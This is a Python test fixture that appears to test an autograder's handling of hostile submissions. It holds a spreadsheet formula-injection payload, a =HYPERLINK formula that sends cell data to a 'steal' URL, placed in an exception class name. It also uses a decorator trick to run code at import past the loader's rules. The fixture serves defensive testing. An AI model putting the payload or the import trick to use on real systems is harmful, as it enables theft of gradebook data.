"""Hostile: an exception whose class name is a spreadsheet formula, so the one-line error message
the grader writes into gradebook.csv begins with `=HYPERLINK(`.

Expected: a graded error; in gradebook.csv the cell is inert text (a leading apostrophe).
"""
import torch.nn as nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv = nn.Conv2d(1, 10, 1)

    def forward(self, x):
        return self.conv(x).mean(dim=(2, 3))


@lambda run: run()  # runs at import: the loading rule keeps definitions, and a decorator is part of one
def _at_import():
    raise type('=HYPERLINK("http://127.0.0.1/steal?"&A1,"click")', (Exception,), {})("gotcha")
